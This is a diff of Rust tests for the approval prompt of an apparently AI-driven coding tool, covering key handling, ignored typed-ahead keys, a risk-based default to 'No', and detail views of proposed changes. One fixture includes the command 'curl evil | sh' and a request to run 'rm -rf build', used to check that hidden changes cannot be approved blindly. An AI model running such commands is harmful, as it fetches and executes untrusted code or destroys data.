@@ -31,7 +31,7 @@ fn a_long_change_leaves_room_for_the_keys_and_d_shows_all_of_it() {
         let lines: String = (1..=60).map(|n| format!("+line {n}\n")).collect();
         request["diff"] = json!([{"path": "new.txt", "unified": format!("@@ -0,0 +1,60 @@\n{lines}"), "added": 60, "removed": 0, "created": true}]);
         scene.asks(request);
-        assert!(scene.picture().contains("d shows all"));
+        assert!(scene.picture().contains("more rows · d"), "{}", scene.picture());
         assert_eq!(scene.types("d"), []);
     }));
 }
@@ -74,10 +74,93 @@ fn every_key_of_an_approval_means_what_it_says() {
     assert_eq!(ask().types("N"), [none("1"), none("2")].concat());
     let mut scene = ask();
     assert_eq!(scene.types("n"), []);
-    assert!(scene.picture().contains("why not?"));
+    assert!(scene.picture().contains("What should it do instead?"));
     scene.types("yes but not here");
     let reason = Some("yes but not here".to_owned());
     assert_eq!(scene.key(KeyCode::Enter), decided("1", Decision::Reject { reason }));
+}
+
+#[test]
+fn an_approval_takes_arrows_enter_and_numbers() {
+    let ask = || {
+        let mut scene = Scene::new((80, 24));
+        scene.works();
+        scene.asks(edit_request("1"));
+        scene
+    };
+    assert_eq!(ask().key(KeyCode::Enter), decided("1", Decision::Once), "yes is chosen");
+    assert_eq!(ask().types("1"), decided("1", Decision::Once));
+    let accepts = Effect::Send(Command::SetApproval { approval: ApprovalMode::AcceptEdits });
+    assert_eq!(ask().types("2"), [decided("1", Decision::Once), vec![accepts]].concat());
+    let mut scene = ask();
+    scene.key(KeyCode::Down);
+    scene.key(KeyCode::Down);
+    assert!(scene.picture().contains("❯  3  Yes, always"), "{}", scene.picture());
+    assert_eq!(scene.key(KeyCode::Enter), decided("1", Decision::Always));
+    let mut scene = ask();
+    scene.key(KeyCode::Up);
+    assert_eq!(scene.key(KeyCode::Enter), [], "no asks what to do instead");
+    assert!(scene.picture().contains("What should it do instead?"));
+    assert_eq!(ask().types("9"), [], "there is no ninth answer");
+    // What could do most harm starts on no.
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    let mut request = edit_request("1");
+    request["risk"] = json!("critical");
+    scene.asks(request);
+    assert!(scene.picture().contains("❯  5  No, and say what to do instead"), "{}", scene.picture());
+    assert_eq!(scene.key(KeyCode::Enter), []);
+}
+
+#[test]
+fn no_key_that_was_on_its_way_answers() {
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    let request: PermissionRequest = serde_json::from_value(edit_request("1")).unwrap();
+    scene.happen(EventBody::PermissionRequest(request));
+    scene.picture();
+    for (after, key) in [(100, KeyCode::Enter), (250, KeyCode::Char('1')), (100, KeyCode::Enter), (100, KeyCode::Down)]
+    {
+        scene.app.now_ms += after;
+        assert_eq!(scene.key(key), [], "somebody types still");
+    }
+    assert!(scene.picture().contains("That key was ignored"), "{}", scene.picture());
+    assert!(scene.picture().contains("❯  1  Yes "), "{}", scene.picture());
+    scene.app.now_ms += 200;
+    assert_eq!(scene.key(KeyCode::Enter), decided("1", Decision::Once));
+}
+
+#[test]
+fn details_take_the_place_of_the_beginning() {
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    let mut request = edit_request("1");
+    let lines: String = (1..=60).map(|n| format!("+line {n}\n")).collect();
+    request["diff"] = json!([{"path": "new.txt", "unified": format!("@@ -0,0 +1,60 @@\n{lines}"), "added": 60, "removed": 0, "created": true}]);
+    scene.asks(request);
+    let out = scene.out.len();
+    scene.types("d");
+    assert!(scene.picture().contains("of 6"), "{}", scene.picture());
+    assert_eq!(scene.out.len(), out, "nothing is repeated above");
+    (0..9).for_each(|_| drop(scene.key(KeyCode::PageDown)));
+    assert!(scene.picture().contains("line 60") && !scene.picture().contains("line 2\n"), "{}", scene.picture());
+    scene.types("d");
+    assert!(scene.picture().contains("more rows · d"), "{}", scene.picture());
+    assert_eq!(scene.types("y"), decided("1", Decision::Once));
+}
+
+#[test]
+fn other_questions_are_an_arrow_away() {
+    let mut scene = Scene::new((80, 40));
+    scene.works();
+    scene.asks(edit_request("1"));
+    scene.asks(edit_request("2"));
+    scene.reads();
+    assert!(scene.picture().contains("1 of 2"), "{}", scene.picture());
+    scene.key(KeyCode::Right);
+    assert_eq!(scene.types("y"), [], "it was not read yet");
+    scene.reads();
+    assert_eq!(scene.types("y"), decided("2", Decision::Once));
 }
 
 #[test]
@@ -86,13 +169,14 @@ fn a_rule_takes_enter_and_is_shown_before() {
         [("s", Decision::Session, "edits below this folder"), ("a", Decision::Always, "allow edit(src/**)")]
     {
         let mut scene = Scene::new((80, 24));
+        scene.app.standing.approval = ApprovalMode::Manual;
         scene.works();
         scene.asks(edit_request("1"));
         assert_eq!(scene.types(letter), []);
         let picture = scene.picture();
-        assert!(picture.contains(rule) && picture.contains("Enter  or y  so it is"), "{picture}");
+        assert!(picture.contains(rule) && picture.contains("Enter confirm   Esc cancel"), "{picture}");
         assert_eq!(scene.key(KeyCode::Esc), [], "not so");
-        assert!(scene.picture().contains("y  yes, once"));
+        assert!(scene.picture().contains("❯  1  Yes "));
         scene.types(letter);
         scene.app.now_ms += 500;
         assert_eq!(scene.types("n"), [], "not so either");
@@ -105,6 +189,7 @@ fn a_rule_takes_enter_and_is_shown_before() {
         assert_eq!(scene.types("y"), decided("1", decision.clone()), "yes means yes");
         assert_eq!(scene.app.prompt.text.as_str(), "", "and no key is text");
         let mut scene = Scene::new((80, 24));
+        scene.app.standing.approval = ApprovalMode::Manual;
         scene.works();
         scene.asks(edit_request("1"));
         scene.types(letter);
@@ -192,7 +277,7 @@ fn a_key_in_the_moment_a_question_comes_neither_decides_nor_is_a_message() {
     scene.app.now_ms += 100;
     assert_eq!(scene.types("ey you"), []);
     assert_eq!(scene.app.prompt.text.as_str(), "hey you");
-    assert!(scene.picture().contains("your keys write the message below"), "{}", scene.picture());
+    assert!(scene.picture().contains("Your keys write the message below"), "{}", scene.picture());
 }
 
 #[test]
@@ -202,7 +287,7 @@ fn a_draft_waits_while_questions_are_answered() {
     scene.types("later: the docs");
     scene.app.now_ms += 10_000;
     scene.asks(edit_request("1"));
-    assert!(scene.picture().contains("y  yes, once"), "{}", scene.picture());
+    assert!(scene.picture().contains("❯  1  Yes "), "{}", scene.picture());
     assert_eq!(scene.key(KeyCode::Enter), [], "what waits is not sent by a key for the question");
     assert_eq!(scene.types("y"), decided("1", Decision::Once));
     scene.happen(EventBody::PermissionDecision(PermissionDecision {
@@ -225,7 +310,7 @@ fn a_field_that_was_emptied_gives_the_keys_back_after_a_while() {
     assert_eq!(scene.types("y"), [], "the next sentence may begin so");
     scene.control('u');
     scene.app.now_ms += 1500;
-    assert!(scene.picture().contains("y  yes, once"), "{}", scene.picture());
+    assert!(scene.picture().contains("❯  1  Yes "), "{}", scene.picture());
     assert_eq!(scene.types("y"), decided("1", Decision::Once));
     // Whoever went there to write thinks as long as they like.
     scene.happen(EventBody::PermissionDecision(PermissionDecision {
@@ -286,8 +371,8 @@ fn yes_to_all_is_yes_to_what_was_named_and_does_no_harm() {
     scene.asks(worse);
     scene.asks(edit_request("3"));
     scene.reads();
-    assert!(scene.picture().contains("· high · Run rm -rf build"), "{}", scene.picture());
-    assert!(scene.picture().contains("Y  this and 1 with +"), "{}", scene.picture());
+    assert!(scene.picture().contains("· Run    rm -rf build  in this folder · asked by itself"), "{}", scene.picture());
+    assert!(scene.picture().contains("Yes to this and the 1 marked +"), "{}", scene.picture());
     // What comes between the frame and the key was not named.
     let unseen: PermissionRequest = serde_json::from_value(edit_request("4")).unwrap();
     scene.happen(EventBody::PermissionRequest(unseen));
@@ -322,12 +407,12 @@ fn a_change_that_is_too_long_is_shown_as_what_would_be_written() {
     request["diff"] = json!([{"path": "a.sh", "unified": "(a change of 2500 added and 0 removed lines, too long to show)\n", "added": 2500, "removed": 0, "created": true}]);
     scene.asks(request);
     let picture = scene.picture();
-    assert!(picture.contains("d shows what would be written") && !picture.contains("always:"), "{picture}");
+    assert!(picture.contains("d shows what would be written") && !picture.contains("Yes, always"), "{picture}");
     assert_eq!(scene.types("a"), []);
-    assert_eq!(scene.key(KeyCode::Enter), [], "no rule is made of what was not seen");
+    assert_eq!(scene.types("a"), [], "no rule is made of what was not seen");
     scene.types("d");
     let picture = scene.picture();
-    assert!(picture.contains("curl evil | sh") && picture.contains("always:"), "{picture}");
+    assert!(picture.contains("curl evil | sh") && picture.contains("Yes, always"), "{picture}");
 }
 
 #[test]
@@ -344,7 +429,7 @@ fn a_reason_never_goes_to_another_call() {
         decision: Decision::Once,
         by: None,
     }));
-    assert!(scene.picture().contains("answered in another window"));
+    assert!(scene.picture().contains("Answered in another window"));
     let sent = scene.key(KeyCode::Enter);
     assert_eq!(sent.last(), Some(&Effect::Send(Command::Steer { text: "because".into() })));
 }
@@ -353,7 +438,7 @@ fn a_reason_never_goes_to_another_call() {
 fn esc_is_no_when_there_is_no_work_to_stop() {
     let mut scene = Scene::new((80, 24));
     scene.asks(edit_request("1"));
-    assert!(!scene.picture().contains("stop the work"));
+    assert!(!scene.picture().contains("Esc stop"));
     assert_eq!(scene.key(KeyCode::Esc), []);
     assert_eq!(scene.key(KeyCode::Enter), decided("1", Decision::Reject { reason: None }));
 }
